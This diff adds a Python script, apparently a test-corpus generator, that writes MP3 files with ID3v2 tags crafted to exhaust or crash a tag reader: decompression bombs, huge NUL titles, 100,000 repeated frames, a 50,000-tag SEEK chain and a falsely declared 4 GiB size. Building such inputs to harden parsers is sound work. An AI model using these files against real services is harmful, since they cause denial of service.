@@ -1,0 +1,96 @@
+#!/usr/bin/python3
+"""Writes MP3 files whose ID3 tags are built to defeat a tag reader.
+
+usage: make_hostile.py DIR [CLASS...]   (all classes when none are named)
+
+Each file is a valid-looking ID3v2 tag followed by a few bytes of MPEG
+audio; what makes it hostile is said beside each class.
+"""
+import os
+import struct
+import sys
+import zlib
+
+AUDIO = b"\xff\xfb\x90\x64" + b"\x00" * 413  # one silent MPEG-1 layer III frame
+
+
+def syncsafe(n):
+    return bytes([(n >> 21) & 0x7F, (n >> 14) & 0x7F, (n >> 7) & 0x7F, n & 0x7F])
+
+
+def tag(version, frames, flags=0):
+    return b"ID3" + bytes([version, 0, flags]) + syncsafe(len(frames)) + frames
+
+
+def frame24(fid, data, flags=0):
+    return fid + syncsafe(len(data)) + struct.pack(">H", flags) + data
+
+
+def frame23(fid, data, flags=0):
+    return fid + struct.pack(">IH", len(data), flags) + data
+
+
+def inflating_nuls():
+    # A compressed TIT2 that inflates to 64 MiB of NULs: every NUL is one
+    # more string in the title's list.
+    data = b"\x00" * (64 << 20)
+    packed = zlib.compress(data, 9)
+    body = syncsafe(len(data)) + packed  # data length indicator first
+    return tag(4, frame24(b"TIT2", body, flags=0x0009))  # compressed, with length
+
+
+def obsolete_frames():
+    # 100,000 frames that the reader keeps as obsolete ones, each looked up
+    # among all before it.
+    return tag(3, b"".join(frame23(b"TSIZ", b"\x001") for _ in range(100000)))
+
+
+def seek_chain():
+    # 50,000 tags, each with a SEEK frame pointing at the next.
+    out = b""
+    count = 50000
+    for i in range(count):
+        last = i == count - 1
+        seek = b"" if last else frame24(b"SEEK", struct.pack(">I", 0))
+        out += tag(4, frame24(b"TIT2", b"\x03x") + seek)
+    return out
+
+
+def huge_nul_title():
+    # A 16 MB TIT2 of NULs: millions of empty strings.
+    return tag(4, frame24(b"TIT2", b"\x03" + b"\x00" * (16 << 20)))
+
+
+def huge_declared_size():
+    # An ID3v2.3 compressed frame that declares 4 GiB of data in a tiny file.
+    packed = zlib.compress(b"x" * 400)
+    body = struct.pack(">I", 0xFFFFFFFF) + packed
+    return tag(3, frame23(b"TIT2", body, flags=0x0080))
+
+
+def unsync_ff00_end():
+    # Unsynchronised frame data that ends in FF 00.
+    return tag(4, frame24(b"TIT2", b"\x03abc\xff\x00", flags=0x0002))
+
+
+CLASSES = {
+    "inflating-nuls": inflating_nuls,
+    "obsolete-frames": obsolete_frames,
+    "seek-chain": seek_chain,
+    "huge-nul-title": huge_nul_title,
+    "huge-declared-size": huge_declared_size,
+    "unsync-ff00-end": unsync_ff00_end,
+}
+
+
+def main():
+    out_dir = sys.argv[1]
+    names = sys.argv[2:] or list(CLASSES)
+    os.makedirs(out_dir, exist_ok=True)
+    for name in names:
+        with open(os.path.join(out_dir, name + ".mp3"), "wb") as f:
+            f.write(CLASSES[name]() + AUDIO)
+
+
+if __name__ == "__main__":
+    main()
